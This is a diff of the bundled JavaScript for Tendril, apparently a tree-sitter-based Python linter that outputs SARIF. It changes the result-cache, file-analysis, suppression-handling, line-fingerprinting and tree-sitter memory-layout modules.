-        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
-        __setModuleDefault(result, mod);
-        return result;
-    };
-})();
-Object.defineProperty(exports, "__esModule", ({ value: true }));
-exports.ResultCache = void 0;
-const crypto_1 = __nccwpck_require__(6982);
-const fs = __importStar(__nccwpck_require__(9896));
-const path = __importStar(__nccwpck_require__(6928));
-const version_1 = __nccwpck_require__(311);
-const FORMAT = 1;
-/** Every file under `dir`, for hashing the source tree (sorted, so the hash is stable). */
-function filesUnder(dir) {
-    return fs
-        .readdirSync(dir, { withFileTypes: true })
-        .sort((a, b) => (a.name < b.name ? -1 : 1))
-        .flatMap((e) => (e.isDirectory() ? filesUnder(path.join(dir, e.name)) : [path.join(dir, e.name)]));
-}
-let engineId;
-/**
- * Tendril's version and a hash of the code that runs: the bundle (`script`), or, running from
- * source (tests), every file of the source tree, so an edited rule never meets its old results.
- */
-function engine(script) {
-    if (!engineId) {
-        const hash = (0, crypto_1.createHash)('sha256');
-        try {
-            const base = script?.endsWith('.js') ? path.dirname(script) : path.join(__dirname, '..');
-            const files = script?.endsWith('.js') ? [script] : filesUnder(base);
-            for (const file of files)
-                hash.update(path.relative(base, file)).update(fs.readFileSync(file));
-        }
-        catch {
-            hash.update(String(Date.now()));
-        }
-        engineId = `${version_1.VERSION}+${hash.digest('hex').slice(0, 16)}`;
-    }
-    return engineId;
-}
-/** The rules and their effective option values (a value equal to the default is the default). */
-function settingsKey(ruleSet, budgetKey) {
-    const rules = [...ruleSet.rules]
-        .sort((a, b) => (a.meta.id < b.meta.id ? -1 : 1))
-        .map((rule) => {
-        const specs = rule.meta.options ?? {};
-        const values = Object.keys(specs)
-            .sort()
-            .map((name) => [name, ruleSet.options[rule.meta.id]?.[name] ?? specs[name].default]);
-        return values.length ? [rule.meta.id, values] : rule.meta.id;
-    });
-    return JSON.stringify([rules, budgetKey]);
-}
-class ResultCache {
-    dir;
-    root;
-    store;
-    file;
-    settingsKeys;
-    /** Key of every file looked up in this run. */
-    keys = new Map();
-    /** Entries to write: hits, and results recorded for misses. */
-    fresh = new Map();
-    /** Files found in the cache in this run. */
-    hits = 0;
-    constructor(dir, root, ruleSets, budgetKey, script) {
-        this.dir = dir;
-        this.root = root;
-        const id = engine(script);
-        this.file = path.join(dir, `results-v${FORMAT}.json`);
-        this.settingsKeys = ruleSets.map((s) => settingsKey(s, budgetKey));
-        let store = { engine: id, entries: {} };
-        try {
-            const read = JSON.parse(fs.readFileSync(this.file, 'utf8'));
-            if (read && read.engine === id && typeof read.entries === 'object')
-                store = read;
-        }
-        catch {
-            // No cache yet, or an unreadable one: start empty (it is rewritten at the end).
-        }
-        this.store = store;
-    }
-    /** Opens (or starts) the cache in `dir`, relative to the root. */
-    static open(dir, root, ruleSets, budgetKey, script) {
-        return new ResultCache(path.resolve(root, dir), root, ruleSets, budgetKey, script);
-    }
-    key(file, bytes) {
-        return (0, crypto_1.createHash)('sha256')
-            .update(this.settingsKeys[file.profile ?? 0])
-            .update('\0')
-            .update(file.rel)
-            .update('\0')
-            .update(bytes)
-            .digest('hex');
-    }
-    /**
-     * The cached result of a file, or undefined. Reads the file to hash it; a file that cannot be
-     * read is a miss (the analysis reports it).
-     */
-    lookup(file) {
-        let bytes;
-        try {
-            bytes = fs.readFileSync(file.abs);
-        }
-        catch {
-            return undefined;
-        }
-        const key = this.key(file, bytes);
-        const entry = this.store.entries[file.rel];
-        this.keys.set(file.rel, key);
-        if (entry && entry.key === key) {
-            this.fresh.set(file.rel, entry);
-            this.hits++;
-            return entry.result;
-        }
-        return undefined;
-    }
-    /** Records the result of a file looked up before (a miss). */
-    record(file, result) {
-        const key = this.keys.get(file.rel);
-        if (key === undefined)
-            return;
-        if (result.notifications.some((n) => n.id === 'file-timeout' || n.id === 'internal-error'))
-            return;
-        this.fresh.set(file.rel, { key, result });
-    }
-    /** Writes the cache: this run's entries, and earlier entries whose files still exist. Never throws. */
-    save() {
-        const entries = {};
-        for (const [rel, entry] of Object.entries(this.store.entries)) {
-            if (!this.keys.has(rel) && fs.existsSync(path.join(this.root, rel)))
-                entries[rel] = entry;
-        }
-        for (const [rel, entry] of this.fresh)
-            entries[rel] = entry;
-        const sorted = {};
-        for (const rel of Object.keys(entries).sort())
-            sorted[rel] = entries[rel];
-        try {
-            fs.mkdirSync(this.dir, { recursive: true });
-            // Like Ruff's cache: ignored by git and tagged for backup tools, whatever the project's settings.
-            const gitignore = path.join(this.dir, '.gitignore');
-            if (!fs.existsSync(gitignore))
-                fs.writeFileSync(gitignore, '# Created by Tendril.\n*\n');
-            const tag = path.join(this.dir, 'CACHEDIR.TAG');
-            if (!fs.existsSync(tag)) {
-                fs.writeFileSync(tag, 'Signature: 8a477f597d28d172789f06886806bc55\n# This file is a cache directory tag created by Tendril.\n');
-            }
-            const tmp = `${this.file}.${process.pid}.tmp`;
-            fs.writeFileSync(tmp, JSON.stringify({ engine: this.store.engine, entries: sorted }));
-            fs.renameSync(tmp, this.file);
-            return undefined;
-        }
-        catch (error) {
-            return `the cache could not be written to ${this.dir} (${error.code ?? error.message}); the next run starts without it`;
-        }
-    }
-}
-exports.ResultCache = ResultCache;
-
-
-/***/ }),
-
-/***/ 6173:
-/***/ ((__unused_webpack_module, exports) => {
-
-
-Object.defineProperty(exports, "__esModule", ({ value: true }));
-exports.FileContext = void 0;
-/**
- * What a rule sees of one file. Rules report through `report`; positions come from the node, so
- * rules never compute columns themselves (tree-sitter columns are UTF-16 units, 0-based; SARIF
- * wants UTF-16 units, 1-based).
- */
-class FileContext {
-    path;
-    text;
-    tree;
-    ruleOptions;
-    findings = [];
-    analyses = new Map();
-    constructor(
-    /** Path relative to the analysis root, with `/` separators. */
-    path, 
-    /** Decoded source text. */
-    text, tree, ruleOptions = {}) {
-        this.path = path;
-        this.text = text;
-        this.tree = tree;
-        this.ruleOptions = ruleOptions;
-    }
-    /** A rule option: the user's value (validated with the settings) or the default in the metadata. */
-    option(rule, name) {
-        const spec = rule.options?.[name];
-        if (!spec)
-            throw new Error(`rule ${rule.id} has no option '${name}'`);
-        return (this.ruleOptions[rule.id]?.[name] ?? spec.default);
-    }
-    /** Text of a node (UTF-16 indices, straight from the source string). */
-    textOf(node) {
-        return this.text.slice(node.startIndex, node.endIndex);
-    }
-    report(rule, node, message) {
-        this.reportRange(rule, node.startPosition, node.endPosition, message);
-    }
-    reportRange(rule, start, end, message) {
-        this.findings.push({
-            ruleId: rule.id,
-            path: this.path,
-            line: start.row + 1,
-            column: start.column + 1,
-            endLine: end.row + 1,
-            endColumn: end.column + 1,
-            message,
-            // Filled in later, in this order; declared now so that every finding has one shape.
-            suppressed: undefined,
-            matchKey: undefined,
-            lineHash: undefined,
-            baselineState: undefined,
-        });
-    }
-    /** Publishes the result of a shared analysis (see src/analysis). */
-    setAnalysis(name, value) {
-        this.analyses.set(name, value);
-    }
-    /** The result of a shared analysis the rule declared in `uses`; read it in `end`. */
-    analysis(name) {
-        if (!this.analyses.has(name))
-            throw new Error(`analysis '${name}' was not run for ${this.path}`);
-        return this.analyses.get(name);
-    }
-}
-exports.FileContext = FileContext;
-
-
-/***/ }),
-
-/***/ 4935:
+/***/ 4883:
 /***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {
 
 
@@ -4579,7 +3612,7 @@ exports.discover = discover;
 const fs = __importStar(__nccwpck_require__(9896));
 const path = __importStar(__nccwpck_require__(6928));
 const errors_1 = __nccwpck_require__(3916);
-const glob_1 = __nccwpck_require__(2218);
+const glob_1 = __nccwpck_require__(3854);
 /** Directories never descended into (by name), wherever they are. */
 exports.DEFAULT_EXCLUDES = [
     '.git', '.hg', '.svn', '.venv', 'venv', 'node_modules', 'build', 'dist', '__pycache__',
@@ -4742,7 +3775,7 @@ function discover(root, paths, options = {}) {
 
 /***/ }),
 
-/***/ 2218:
+/***/ 3854:
 /***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {
 
 
@@ -4953,6 +3986,709 @@ exports.IgnoreStack = IgnoreStack;
 
 /***/ }),
 
+/***/ 138:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.DEFAULT_BUDGET = void 0;
+exports.analyzeSource = analyzeSource;
+const matchkey_1 = __nccwpck_require__(4164);
+const fingerprint_1 = __nccwpck_require__(178);
+const api_1 = __nccwpck_require__(6750);
+const parser_1 = __nccwpck_require__(3715);
+const source_1 = __nccwpck_require__(7433);
+const suppress_1 = __nccwpck_require__(2111);
+const tree_1 = __nccwpck_require__(3036);
+const walk_1 = __nccwpck_require__(4721);
+exports.DEFAULT_BUDGET = { maxFileSize: 10 * 1024 * 1024, timeoutSeconds: 60 };
+/** Thrown by the budget checks to abandon a file. */
+class OverBudget extends Error {
+}
+/** Orders analyses so that each comes after the ones it builds on. */
+function analysesFor(rules) {
+    const ordered = [];
+    const visit = (analysis) => {
+        if (ordered.includes(analysis))
+            return;
+        for (const dep of analysis.uses ?? [])
+            visit(dep);
+        ordered.push(analysis);
+    };
+    for (const rule of rules)
+        for (const analysis of rule.uses ?? [])
+            visit(analysis);
+    return ordered;
+}
+/** The first ERROR or MISSING node in document order, for the syntax-error notification's position. */
+function firstSyntaxError(tree) {
+    for (let i = 0; i < tree.count; i++)
+        if (tree.typeName(i) === 'ERROR' || tree.isMissing(i))
+            return i;
+    return -1;
+}
+/**
+ * Analyses one file's bytes: decode, parse once, walk once with every enabled rule (and the shared
+ * analyses they use), then fingerprint the lines that have findings. Never throws for bad input:
+ * what cannot be analysed becomes a notification.
+ */
+async function analyzeSource(path, bytes, rules, options = {}, budget = exports.DEFAULT_BUDGET, 
+/** Ids of every rule in the catalogue (for reading suppression comments); default: `rules`' ids. */
+ruleIds = new Set(rules.map((rule) => rule.meta.id))) {
+    const deadline = Date.now() + budget.timeoutSeconds * 1000;
+    const overBudget = () => ({
+        path,
+        findings: [],
+        notifications: [
+            {
+                level: 'error',
+                id: 'file-timeout',
+                path,
+                message: `${path} was not analysed: the analysis did not finish within the time budget (file-timeout, ${budget.timeoutSeconds} s).`,
+            },
+        ],
+    });
+    const checkpoint = () => {
+        if (Date.now() > deadline)
+            throw new OverBudget();
+    };
+    const notifications = [];
+    const result = { path, findings: [], notifications };
+    const decoded = (0, source_1.decodeSource)(bytes);
+    if (!decoded.ok) {
+        notifications.push({ level: 'error', id: 'file-undecodable', path, message: `${path} was not analysed: it ${decoded.reason}.` });
+        return result;
+    }
+    const parser = await (0, parser_1.getParser)();
+    let cancelled = false;
+    // The parser asks every so often whether to go on; past the deadline, it stops and returns null.
+    const progressCallback = () => (cancelled = Date.now() > deadline);
+    const parsed = parser.parse(decoded.text, null, { progressCallback: progressCallback });
+    if (!parsed && cancelled)
+        return overBudget();
+    if (!parsed) {
+        notifications.push({ level: 'error', id: 'internal-error', path, message: `${path} was not analysed: the parser gave up on it.` });
+        return result;
+    }
+    try {
+        // Copied once into JavaScript (src/engine/tree.ts); tree-sitter's own tree is freed at once.
+        let tree;
+        try {
+            tree = tree_1.SyntaxTree.from(parsed, decoded.text);
+        }
+        finally {
+            parsed.delete();
+        }
+        let active = rules;
+        if (tree.rootNode.hasError) {
+            const error = firstSyntaxError(tree);
+            const at = error < 0 ? undefined : tree.node(error);
+            const skipped = rules.filter((rule) => rule.meta.needsCleanParse).map((rule) => rule.meta.id);
+            active = rules.filter((rule) => !rule.meta.needsCleanParse);
+            const line = at ? at.startPosition.row + 1 : undefined;
+            const column = at ? at.startPosition.column + 1 : undefined;
+            notifications.push({
+                level: 'warning',
+                id: 'syntax-error',
+                path,
+                line,
+                column,
+                message: `${path} has a syntax error` +
+                    (line ? ` at line ${line}, column ${column}` : '') +
+                    (skipped.length ? `; rules that need the whole file were skipped there: ${skipped.join(', ')}.` : '.'),
+            });
+        }
+        const context = new api_1.FileContext(path, decoded.text, tree, options);
+        const visitors = [];
+        for (const analysis of analysesFor(active))
+            visitors.push(analysis.create(context));
+        for (const rule of active)
+            visitors.push(rule.create(context));
+        // Suppression comments are collected in the same walk: `comment` nodes, never a text scan.
+        const comments = [];
+        visitors.push({
+            comment: (node) => {
+                const start = node.startPosition;
+                const before = decoded.text.slice(node.startIndex - start.column, node.startIndex);
+                const ownLine = before.trim() === '';
+                // `)  # nosec` after a multi-line statement: the statement is the comment's previous sibling.
+                const previous = ownLine ? null : node.previousNamedSibling;
+                const statementStartRow = previous && previous.endPosition.row === start.row && previous.startPosition.row < start.row ? previous.startPosition.row : undefined;
+                comments.push({ row: start.row, column: start.column, endColumn: node.endPosition.column, text: node.text, ownLine, statementStartRow });
+            },
+        });
+        (0, walk_1.walk)(tree, visitors, checkpoint);
+        for (const visitor of visitors) {
+            checkpoint();
+            visitor.end?.();
+        }
+        const directives = (0, suppress_1.parseDirectives)(comments, decoded.text, ruleIds);
+        (0, suppress_1.applyDirectives)(context.findings, directives, active);
+        const unusedRule = active.find((rule) => rule.meta.id === suppress_1.UNUSED_SUPPRESSION_ID);
+        if (unusedRule) {
+            const before = context.findings.length;
+            for (const d of directives) {
+                const codes = (0, suppress_1.unusedCodes)(d, active);
+                if (codes.length === 0)
+                    continue;
+                context.reportRange(unusedRule.meta, { row: d.line - 1, column: d.column - 1 }, { row: d.line - 1, column: d.endColumn - 1 }, `Unused suppression: '${d.text}' suppresses no finding of ${codes.join(', ')}${d.lineLevel ? ' on this line' : ''}; remove ${codes.length > 1 ? 'these codes' : 'this code'}.`);
+            }
+            (0, suppress_1.applyDirectives)(context.findings.slice(before), directives, active);
+        }
+        result.findings = context.findings;
+        (0, matchkey_1.annotateMatchKeys)(result.findings, decoded.text, tree);
+    }
+    catch (error) {
+        if (error instanceof OverBudget)
+            return overBudget();
+        notifications.push({
+            level: 'error',
+            id: 'internal-error',
+            path,
+            message: `${path} was not fully analysed: internal error: ${error instanceof Error ? error.message : String(error)}`,
+        });
+        // For bug reports: TENDRIL_DEBUG=1 puts the stack of an internal error on stderr.
+        if (process.env.TENDRIL_DEBUG && error instanceof Error)
+            process.stderr.write(`${path}: ${error.stack}\n`);
+    }
+    if (result.findings.length > 0) {
+        // Hashed over the file as codeql-action reads it (UTF-8, BOM kept), not the decoded text.
+        const hashes = (0, fingerprint_1.lineHashes)(decoded.hashText(), new Set(result.findings.map((f) => f.line)));
+        for (const finding of result.findings)
+            finding.lineHash = hashes.get(finding.line);
+    }
+    return result;
+}
+
+
+/***/ }),
+
+/***/ 6750:
+/***/ ((__unused_webpack_module, exports) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.FileContext = void 0;
+exports.namesRule = namesRule;
+exports.ruleLevel = ruleLevel;
+/** True when `code` names the rule: its id, or one of its aliases (`F401`, `b602`: case-insensitive). */
+function namesRule(code, meta) {
+    if (meta.id === code)
+        return true;
+    const upper = code.toUpperCase();
+    return meta.aliases.some((alias) => alias.toUpperCase() === upper);
+}
+/** SARIF level derived from the metadata: security error/warning by severity, maintainability always note. */
+function ruleLevel(meta) {
+    if (meta.kind === 'maintainability')
+        return 'note';
+    return (meta.securitySeverity ?? 0) >= 7 ? 'error' : 'warning';
+}
+/**
+ * What a rule sees of one file. Rules report through `report`; positions come from the node, so
+ * rules never compute columns themselves (tree-sitter columns are UTF-16 units, 0-based; SARIF
+ * wants UTF-16 units, 1-based).
+ */
+class FileContext {
+    path;
+    text;
+    tree;
+    ruleOptions;
+    findings = [];
+    analyses = new Map();
+    constructor(
+    /** Path relative to the analysis root, with `/` separators. */
+    path, 
+    /** Decoded source text. */
+    text, tree, ruleOptions = {}) {
+        this.path = path;
+        this.text = text;
+        this.tree = tree;
+        this.ruleOptions = ruleOptions;
+    }
+    /** A rule option: the user's value (validated with the settings) or the default in the metadata. */
+    option(rule, name) {
+        const spec = rule.options?.[name];
+        if (!spec)
+            throw new Error(`rule ${rule.id} has no option '${name}'`);
+        return (this.ruleOptions[rule.id]?.[name] ?? spec.default);
+    }
+    /** Text of a node (UTF-16 indices, straight from the source string). */
+    textOf(node) {
+        return this.text.slice(node.startIndex, node.endIndex);
+    }
+    report(rule, node, message) {
+        this.reportRange(rule, node.startPosition, node.endPosition, message);
+    }
+    reportRange(rule, start, end, message) {
+        this.findings.push({
+            ruleId: rule.id,
+            path: this.path,
+            line: start.row + 1,
+            column: start.column + 1,
+            endLine: end.row + 1,
+            endColumn: end.column + 1,
+            message,
+            // Filled in later, in this order; declared now so that every finding has one shape.
+            suppressed: undefined,
+            matchKey: undefined,
+            lineHash: undefined,
+            baselineState: undefined,
+        });
+    }
+    /** Publishes the result of a shared analysis (see src/analysis). */
+    setAnalysis(name, value) {
+        this.analyses.set(name, value);
+    }
+    /** The result of a shared analysis the rule declared in `uses`; read it in `end`. */
+    analysis(which) {
+        const name = typeof which === 'string' ? which : which.name;
+        if (!this.analyses.has(name))
+            throw new Error(`analysis '${name}' was not run for ${this.path}`);
+        return this.analyses.get(name);
+    }
+    /** The file as one rule sees it: reports, options and analyses with the rule's metadata bound in. */
+    forRule(meta) {
+        return {
+            path: this.path,
+            text: this.text,
+            tree: this.tree,
+            textOf: (node) => this.textOf(node),
+            report: (node, message) => this.report(meta, node, message),
+            reportRange: (start, end, message) => this.reportRange(meta, start, end, message),
+            option: (name) => this.option(meta, name),
+            analysis: (analysis) => this.analysis(analysis),
+        };
+    }
+}
+exports.FileContext = FileContext;
+
+
+/***/ }),
+
+/***/ 178:
+/***/ ((__unused_webpack_module, exports) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.lineHashes = lineHashes;
+/**
+ * `primaryLocationLineHash`, computed the way github/codeql-action computes it when it uploads
+ * SARIF without fingerprints, so that alerts deduplicate whichever path uploads Tendril's SARIF.
+ *
+ * The algorithm, as that action documents it: a rolling polynomial hash (base 37, arithmetic modulo
+ * 2^64) over a window of the next 100 characters counted from the start of each line, skipping
+ * spaces and tabs, with `\r\n`, `\r` and `\n` all read as `\n`; after the last character comes an
+ * end marker (65535) and then zeros to fill the window. The text is the file's bytes decoded as
+ * UTF-8 (invalid sequences become U+FFFD, a BOM stays), read in UTF-16 code units. Identical hashes
+ * in one file are told apart by a `:N` occurrence suffix.
+ *
+ * The 64-bit arithmetic is done on two 32-bit halves held in plain numbers: every step of a half
+ * (`half * 37 + carry - FIRST_MOD half * character`) stays within 2^49 in magnitude, so it is
+ * exact in a double; the low half's carry is `floor(t / 2^32)`, and the high half is taken
+ * modulo 2^32 with `>>> 0`, exact for any such value.
+ */
+const WINDOW = 100;
+const BASE = 37;
+const END_OF_FILE = 65535;
+const TWO_32 = 4294967296;
+/** BASE^WINDOW mod 2^64 as its high and low 32 bits. */
+const FIRST_MOD = (() => {
+    let hi = 0;
+    let lo = 1;
+    for (let i = 0; i < WINDOW; i++) {
+        const t = lo * BASE;
+        const carry = Math.floor(t / TWO_32);
+        lo = t - carry * TWO_32;
+        hi = (hi * BASE + carry) >>> 0;
+    }
+    return [hi, lo];
+})();
+function hex64(hi, lo) {
+    return hi === 0 ? lo.toString(16) : hi.toString(16) + lo.toString(16).padStart(8, '0');
+}
+/**
+ * Hashes of the 1-based `wanted` lines of `text` (all lines when `wanted` is omitted), as
+ * `"<hex>:<occurrence>"` strings. Stops once the last wanted line is hashed (the occurrence count
+ * of a line only depends on the lines before it). One loop, no calls per character: this runs
+ * over every character of every file that has a finding. The loop only records each line's hash;
+ * occurrences are counted afterwards, and only of the hashes of wanted lines.
+ */
+function lineHashes(text, wanted) {
+    let last = wanted ? 0 : Infinity;
+    if (wanted)
+        for (const line of wanted)
+            if (line > last)
+                last = line;
+    const window = new Int32Array(WINDOW);
+    const lineAt = new Int32Array(WINDOW).fill(-1);
+    // The hash of line n + 1, as its high and low 32 bits.
+    const his = [];
+    const los = [];
+    const [fHi, fLo] = FIRST_MOD;
+    let hi = 0;
+    let lo = 0;
+    let index = 0;
+    let lineNumber = 0;
+    let lineStart = true;
+    let prevCR = false;
+    const length = text.length;
+    // Characters of the text, then the end marker, then WINDOW zeros to flush the window.
+    for (let i = 0, stop = length + 1 + WINDOW; i < stop; i++) {
+        let code;
+        if (i < length) {
+            code = text.charCodeAt(i);
+            if (code === 0x20 || code === 0x09 || (prevCR && code === 0x0a)) {
+                prevCR = false;
+                continue;
+            }
+            if (code === 0x0d) {
+                code = 0x0a;
+                prevCR = true;
+            }
+            else
+                prevCR = false;
+        }
+        else
+            code = i === length ? END_OF_FILE : 0;
+        // The line whose window is now full: record its hash (lines complete in order).
+        const line = lineAt[index];
+        if (line !== -1) {
+            his.push(hi);
+            los.push(lo);
+            if (line >= last)
+                break;
+            lineAt[index] = -1;
+        }
+        if (i <= length) {
+            // The end marker is read like a character: after a final newline it starts a last, empty line.
+            if (lineStart) {
+                lineStart = false;
+                lineAt[index] = ++lineNumber;
+            }
+            if (code === 0x0a)
+                lineStart = true;
+        }
+        // hash = hash * BASE + code - FIRST_MOD * begin   (mod 2^64), half by half.
+        const begin = window[index];
+        window[index] = code;
+        const t = lo * BASE + code - fLo * begin;
+        const carry = Math.floor(t / TWO_32);
+        lo = t - carry * TWO_32;
+        hi = (hi * BASE + carry - fHi * begin) >>> 0;
+        index = index === WINDOW - 1 ? 0 : index + 1;
+    }
+    return occurrences(his, los, wanted);
+}
+/**
+ * `"<hex>:<occurrence>"` of the wanted lines (all when omitted), from the hashes of lines 1..n:
+ * a line's occurrence is 1 + the number of earlier lines with the same hash. Lines whose hash no
+ * wanted line has are passed over with one look-up of a small integer (30 bits of the low half).
+ */
+function occurrences(his, los, wanted) {
+    const out = new Map();
+    // The distinct hashes of wanted lines, by the small-integer key, with their running counts.
+    const counts = new Map();
+    const entryOf = (k, add) => {
+        const hi = his[k];
+        const lo = los[k];
+        const key = lo & 0x3fffffff;
+        let bucket = counts.get(key);
+        if (!bucket) {
+            if (!add)
+                return undefined;
+            counts.set(key, (bucket = []));
+        }
+        for (const entry of bucket)
+            if (entry.hi === hi && entry.lo === lo)
+                return entry;
+        if (!add)
+            return undefined;
+        const entry = { hi, lo, count: 0 };
+        bucket.push(entry);
+        return entry;
+    };
+    if (wanted)
+        for (const line of wanted)
+            if (line >= 1 && line <= his.length)
+                entryOf(line - 1, true);
+    for (let k = 0; k < his.length; k++) {
+        const entry = entryOf(k, !wanted);
+        if (!entry)
+            continue;
+        entry.count++;
+        if (!wanted || wanted.has(k + 1))
+            out.set(k + 1, `${hex64(entry.hi, entry.lo)}:${entry.count}`);
+    }
+    return out;
+}
+
+
+/***/ }),
+
+/***/ 3638:
+/***/ ((__unused_webpack_module, exports) => {
+
+
+/**
+ * The layout of tree-sitter's data in the WebAssembly memory, as src/engine/tree.ts reads it:
+ * every struct offset, size, bit and constant the tree copy depends on, in one table, each with
+ * what it is and where it comes from.
+ *
+ * Sources: the runtime of tree-sitter 0.25.10, compiled to wasm32 (little-endian, 4-byte
+ * pointers) as web-tree-sitter 0.25.10. Its C sources ship in the package: a file named here as
+ * `subtree.h` is `node_modules/web-tree-sitter/lib/subtree.h` (`lib/src/subtree.h` in
+ * tree-sitter's repository); `src/...` names web-tree-sitter's own TypeScript sources in the same
+ * package. Offsets count bytes from the start of the struct; bit-fields are allocated from the
+ * least significant bit (clang on wasm32), so `bool a : 1; bool b : 1;` puts `a` at 1 and `b` at 2.
+ *
+ * None of this is checked by a compiler: when web-tree-sitter or the grammar changes version,
+ * the self-check (src/engine/selfcheck.ts, run once per thread when the parser loads) refuses to
+ * analyse anything until this table is checked against the new sources and the pinned versions in
+ * package.json are changed with it.
+ */
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.LAYOUT = exports.TREE_LAYOUT = exports.TREE_SITTER_PYTHON_VERSION = exports.WEB_TREE_SITTER_VERSION = void 0;
+exports.brokenLayout = brokenLayout;
+/** The versions the table was read from; package.json pins both exactly. */
+exports.WEB_TREE_SITTER_VERSION = '0.25.10';
+exports.TREE_SITTER_PYTHON_VERSION = '0.25.0';
+function entry(value, what, source) {
+    return Object.freeze({ value, what, source });
+}
+exports.TREE_LAYOUT = Object.freeze({
+    // web-tree-sitter's JavaScript objects.
+    handleAddress: entry(0, 'index of the address of the C object in a web-tree-sitter `Tree` or `Language`', 'src/tree.ts and src/language.ts: `this[0] = address`'),
+    unitShift: entry(1, 'shift from bytes of the UTF-16 input to UTF-16 code units', 'tree-sitter.c: `byte_to_code_unit` (web-tree-sitter parses a string as TSInputEncodingUTF16LE)'),
+    // struct TSTree.
+    treeRoot: entry(0, 'offset of the root `Subtree`', 'tree.h: TSTree.root'),
+    // union Subtree: the inline data or a pointer to SubtreeHeapData.
+    subtreeSize: entry(8, 'size of a `Subtree`; a node\'s children are the `child_count` Subtrees just before its SubtreeHeapData', 'subtree.h: union Subtree; subtree.h: ts_subtree_children'),
+    // struct SubtreeInlineData (little-endian layout), for small leaves.
+    inlineIsInline: entry(1, 'bit of byte 0 set when the Subtree is inline (never set in an aligned pointer)', 'subtree.h: SubtreeInlineData.is_inline'),
+    inlineVisible: entry(2, 'bit of byte 0: visible', 'subtree.h: SubtreeInlineData.visible (SUBTREE_BITS)'),
+    inlineNamed: entry(4, 'bit of byte 0: named', 'subtree.h: SubtreeInlineData.named (SUBTREE_BITS)'),
+    inlineExtra: entry(8, 'bit of byte 0: extra', 'subtree.h: SubtreeInlineData.extra (SUBTREE_BITS)'),
+    inlineMissing: entry(32, 'bit of byte 0: missing', 'subtree.h: SubtreeInlineData.is_missing (SUBTREE_BITS)'),
+    inlineSymbol: entry(1, 'offset of the symbol (u8)', 'subtree.h: SubtreeInlineData.symbol'),
+    inlinePaddingBytes: entry(6, 'offset of the padding in bytes (u8)', 'subtree.h: SubtreeInlineData.padding_bytes (SUBTREE_SIZE)'),
+    inlineSizeBytes: entry(7, 'offset of the size in bytes (u8)', 'subtree.h: SubtreeInlineData.size_bytes (SUBTREE_SIZE)'),
+    // struct SubtreeHeapData, for inner nodes and the other leaves.
+    heapPaddingBytes: entry(4, 'offset of the padding in bytes (u32)', 'subtree.h: SubtreeHeapData.padding.bytes; length.h: Length.bytes'),
+    heapSizeBytes: entry(16, 'offset of the size in bytes (u32)', 'subtree.h: SubtreeHeapData.size.bytes; length.h: Length.bytes'),
+    heapErrorCost: entry(32, 'offset of the error cost (u32); above 0: the node has an error', 'subtree.h: SubtreeHeapData.error_cost'),
+    heapChildCount: entry(36, 'offset of the child count (u32)', 'subtree.h: SubtreeHeapData.child_count'),
+    heapSymbol: entry(40, 'offset of the symbol (u16)', 'subtree.h: SubtreeHeapData.symbol'),
+    heapFlags: entry(44, 'offset of the u16 that holds the bit-fields from `visible` to `is_keyword`', 'subtree.h: SubtreeHeapData.visible ... is_keyword'),
+    heapVisible: entry(1, 'bit of the flags: visible', 'subtree.h: SubtreeHeapData.visible'),
+    heapNamed: entry(2, 'bit of the flags: named', 'subtree.h: SubtreeHeapData.named'),
+    heapExtra: entry(4, 'bit of the flags: extra', 'subtree.h: SubtreeHeapData.extra'),
+    heapMissing: entry(512, 'bit of the flags: missing (the 10th bit-field)', 'subtree.h: SubtreeHeapData.is_missing'),
+    heapVisibleDescendantCount: entry(56, 'offset of the visible descendant count of a node with children (u32)', 'subtree.h: SubtreeHeapData.visible_descendant_count'),
+    heapProductionId: entry(66, 'offset of the production id of a node with children (u16)', 'subtree.h: SubtreeHeapData.production_id'),
+    // Symbols.
+    errorSymbol: entry(0xffff, 'the symbol of ERROR nodes', 'parser.h: ts_builtin_sym_error ((TSSymbol)-1)'),
+    symbolSize: entry(2, 'size of a TSSymbol, the entries of `public_symbol_map` and `alias_sequences`', 'parser.h: TSLanguage.public_symbol_map, alias_sequences (TSSymbol is uint16_t)'),
+    // struct TSLanguage (its first fields, the same for ABI 14 and 15).
+    languageAbiVersion: entry(0, 'offset of the ABI version (u32)', 'parser.h: TSLanguage.abi_version'),
+    abiMin: entry(14, 'oldest language ABI whose TSLanguage starts as this table says', 'parser.h: struct TSLanguage'),
+    abiMax: entry(15, 'newest language ABI whose TSLanguage starts as this table says', 'parser.h: struct TSLanguage'),
+    languageSymbolCount: entry(4, 'offset of the symbol count (u32)', 'parser.h: TSLanguage.symbol_count'),
+    languageAliasCount: entry(8, 'offset of the alias count (u32)', 'parser.h: TSLanguage.alias_count'),
+    languageProductionIdCount: entry(28, 'offset of the production id count (u32)', 'parser.h: TSLanguage.production_id_count'),
+    languageFieldCount: entry(32, 'offset of the field count (u32)', 'parser.h: TSLanguage.field_count'),
+    languageMaxAliasSequenceLength: entry(36, 'offset of the alias sequence length (u16)', 'parser.h: TSLanguage.max_alias_sequence_length'),
+    languageFieldMapSlices: entry(64, 'offset of the pointer to the field map slices', 'parser.h: TSLanguage.field_map_slices'),
+    languageFieldMapEntries: entry(68, 'offset of the pointer to the field map entries', 'parser.h: TSLanguage.field_map_entries'),
+    languageSymbolMetadata: entry(72, 'offset of the pointer to the symbol metadata', 'parser.h: TSLanguage.symbol_metadata'),
+    languagePublicSymbolMap: entry(76, 'offset of the pointer to the public symbol map', 'parser.h: TSLanguage.public_symbol_map'),
+    languageAliasSequences: entry(84, 'offset of the pointer to the alias sequences', 'parser.h: TSLanguage.alias_sequences'),
+    // struct TSSymbolMetadata.
+    metadataSize: entry(3, 'size of a TSSymbolMetadata', 'parser.h: TSSymbolMetadata {bool visible, named, supertype}'),
+    metadataNamed: entry(1, 'offset of `named` (bool)', 'parser.h: TSSymbolMetadata.named'),
+    // struct TSMapSlice, one per production id.
+    sliceSize: entry(4, 'size of a TSMapSlice', 'parser.h: TSMapSlice {uint16_t index, length}'),
+    sliceIndex: entry(0, 'offset of the index of the first entry (u16)', 'parser.h: TSMapSlice.index'),
+    sliceLength: entry(2, 'offset of the entry count (u16)', 'parser.h: TSMapSlice.length'),
